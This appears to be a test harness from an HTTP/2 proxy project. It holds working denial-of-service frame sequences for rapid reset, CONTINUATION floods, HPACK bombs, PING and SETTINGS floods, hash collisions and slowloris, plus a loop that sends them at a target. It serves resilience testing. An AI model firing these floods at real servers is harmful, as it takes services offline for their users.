/** Attacks on whoever speaks HTTP/2: frames that cost the sender little, and responses that nobody reads. */
import type { Cause } from '../../../src/mesh/proxy/answers.ts';
import { Field } from '../../../src/mesh/proxy/protocol/http2/field.ts';
import {
  ERROR,
  FLAG,
  FRAME,
  Output,
  PREFACE,
  SETTING,
} from '../../../src/mesh/proxy/protocol/http2/frames.ts';
import { HpackEncoder } from '../../../src/mesh/proxy/protocol/http2/hpack-encoder.ts';
import { attacker, type Target, type Toll } from './attacker.ts';

const fields = (path: string) => [
  new Field(':method', 'GET'),
  new Field(':scheme', 'http'),
  new Field(':path', path),
  new Field(':authority', 'a'),
];

function block(all: readonly Field[]): Buffer {
  const out = Buffer.alloc(200_000);
  return out.subarray(0, new HpackEncoder().encode(all, all.length, out, 0));
}

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const output = new Output();
  output.reserve(9 + payload.length);
  output.header(payload.length, type, flags, id);
  output.raw(payload, 0, payload.length);
  return Buffer.from(output.bytes.subarray(0, output.length));
}

const uint32 = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const REQUEST = FLAG.endHeaders | FLAG.endStream;
const SMALL = block(fields('/'));
const LARGE = block(fields('/large'));
const request = (id: number, payload = SMALL) => frame(FRAME.headers, REQUEST, id, payload);
const repeat = (count: number, make: (n: number) => Buffer) =>
  Buffer.concat(Array.from({ length: count }, (_, n) => make(n)));

function start(window = 65_535): Buffer {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(SETTING.initialWindowSize);
  setting.writeUInt32BE(window, 2);
  return Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, setting)]);
}

/** A field in the table by the first byte string, then one-byte references to it. */
const BOMB = Buffer.concat([
  block([...fields('/'), new Field('x', '')]).subarray(0, SMALL.length),
  Buffer.from([0x40, 1, 120, 0x7f, 0x80, 0x1e]),
  Buffer.alloc(3_967, 'y'),
  Buffer.alloc(12_000, 0xbe),
]);

/** A request of which one byte after the other is asked for. */
const DRIBBLED = 20;
/** Literals without a name and without a value: kept in no table, and in the table. */
const NAMELESS = Buffer.concat([
  Buffer.alloc(3 * 90),
  ...Array.from({ length: 90 }, () => Buffer.from([0x40, 0, 0])),
]);
/** Sizes of the table, up and down: as SETTINGS, and in a header block (RFC 7541 4.2). */
const SIZES = repeat(50, (n) => {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(SETTING.headerTableSize);
  setting.writeUInt32BE(n % 2 === 0 ? 0 : 4_096, 2);
  return setting;
});
const UPDATES = repeat(3_000, () => Buffer.from([0x20, 0x3f, 0xe1, 0x1f]));
/** Names that look like numbers, whose hashes anybody can work out (CVE-2026-21717), each into the table. */
const COLLIDING = repeat(190, (n) => {
  const name = Buffer.from(String((n + 1) * 65_536));
  return Buffer.concat([Buffer.from([0x40, name.length]), name, Buffer.from([1, 97])]);
});

export interface Attack {
  /** First bytes of a connection. */
  begin: Buffer;
  /** What follows again and again; `n` counts within a connection. */
  next?: (n: number) => Buffer;
  /** The attacker does not read. */
  deaf?: boolean;
  /** What the proxy counts it as when it ends the connection, or a stream; undefined: it may go on. */
  cause?: Cause | 'http2-protocol';
}

export const UNREAD = 'large responses that are not read (CVE-2019-9517)';

/** By name; four connections each that come again when they are cut off. */
export const ATTACKS: Record<string, Attack> = {
  'rapid reset (CVE-2023-44487)': {
    cause: 'http2-protocol',
    begin: start(),
    next: (n) =>
      repeat(50, (k) => {
        const id = 2 * (50 * n + k) + 1;
        return Buffer.concat([request(id), frame(FRAME.rstStream, 0, id, uint32(ERROR.cancel))]);
      }),
  },
  'resets we are made to send (CVE-2025-8671)': {
    cause: 'http2-protocol',
    begin: start(),
    next: (n) =>
      repeat(50, (k) => {
        const id = 2 * (50 * n + k) + 1;
        return Buffer.concat([request(id), frame(FRAME.windowUpdate, 0, id, uint32(0))]);
      }),
  },
  'CONTINUATION without end (CVE-2024-27316)': {
    cause: 'http2-protocol',
    begin: Buffer.concat([start(), frame(FRAME.headers, FLAG.endStream, 1, SMALL)]),
    next: () => repeat(20, () => frame(FRAME.continuation, 0, 1, Buffer.alloc(1_000, 0x82))),
  },
  'header bombs behind a stalled window (CVE-2026-49975)': {
    cause: 'http2-protocol',
    begin: start(0),
    next: (n) => repeat(5, (k) => request(2 * (5 * n + k) + 1, BOMB)),
    deaf: true,
  },
  'PING without reading the answers (CVE-2019-9512)': {
    cause: 'http2-protocol',
    begin: start(),
    next: () => repeat(100, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
    deaf: true,
  },
  'SETTINGS without reading the answers (CVE-2019-9515)': {
    cause: 'http2-protocol',
    begin: start(),
    next: () => repeat(100, () => frame(FRAME.settings, 0, 0)),
    deaf: true,
  },
  [UNREAD]: {
    begin: Buffer.concat([start(0x7fff_ffff), frame(FRAME.windowUpdate, 0, 0, uint32(0x7fff_0000 - 65_535))]),
    next: (n) => repeat(10, (k) => request(2 * (10 * n + k) + 1, LARGE)),
    deaf: true,
  },
  'large responses behind a closed window (CVE-2019-9517)': {
    begin: start(0),
    next: (n) => repeat(10, (k) => request(2 * (10 * n + k) + 1, LARGE)),
  },
  'empty frames (CVE-2019-9518)': {
    cause: 'http2-protocol',
    begin: Buffer.concat([start(), frame(FRAME.headers, FLAG.endHeaders, 1, SMALL)]),
    next: () => repeat(100, () => frame(FRAME.data, 0, 1)),
  },
  'priorities (CVE-2019-9513)': {
    cause: 'http2-protocol',
    begin: start(),
    next: (n) => repeat(100, (k) => frame(FRAME.priority, 0, 2 * (n + k) + 1, Buffer.from([0, 0, 0, 0, 9]))),
  },
  'responses byte by byte (CVE-2019-9511)': {
    begin: Buffer.concat([
      start(1),
      frame(FRAME.windowUpdate, 0, 0, uint32(0x7fff_0000 - 65_535)),
      repeat(DRIBBLED, (n) => request(2 * n + 1, LARGE)),
    ]),
    next: () => repeat(5 * DRIBBLED, (n) => frame(FRAME.windowUpdate, 0, 2 * (n % DRIBBLED) + 1, uint32(1))),
  },
  'header fields without a name (CVE-2019-9516)': {
    cause: 'http2-protocol',
    begin: start(),
    next: (n) => repeat(20, (k) => request(2 * (20 * n + k) + 1, Buffer.concat([SMALL, NAMELESS]))),
  },
  'table sizes up and down, by SETTINGS': {
    cause: 'http2-protocol',
    begin: start(),
    next: () => repeat(100, () => frame(FRAME.settings, 0, 0, SIZES)),
  },
  'table sizes up and down, in header blocks': {
    begin: start(),
    next: (n) => repeat(2, (k) => request(2 * (2 * n + k) + 1, Buffer.concat([UPDATES, SMALL]))),
  },
  'header names of one hash (CVE-2026-21717)': {
    begin: start(),
    next: (n) => repeat(5, (k) => request(2 * (5 * n + k) + 1, Buffer.concat([SMALL, COLLIDING]))),
  },
  'streams that never end (slowloris)': {
    cause: 'body-timeout',
    begin: Buffer.concat([
      start(),
      repeat(300, (n) =>
        frame(
          FRAME.headers,
          FLAG.endHeaders,
          2 * n + 1,
          block([...fields('/'), new Field('content-length', '9')]),
        ),
      ),
    ]),
  },
};

/** One attacker, until the time is over. */
export async function attack(
  target: Target,
  { begin, next, deaf }: Attack,
  until: number,
  toll: Toll = { connections: 0, cutOff: 0 },
): Promise<Toll> {
  while (Date.now() < until) {
    const one = attacker(target, deaf);
    const { socket } = one;
    toll.connections += 1;
    socket.write(begin);
    for (let n = 0; one.open && Date.now() < until; n += 1) {
      const more = next ? socket.write(next(n)) : false;
      const wait = new Promise<void>((resolve) => setTimeout(resolve, more ? 1 : 20));
      await Promise.race([one.closed, wait]);
    }
    if (!one.open) toll.cutOff += 1;
    socket.destroy();
    await one.closed;
  }
  return toll;
}
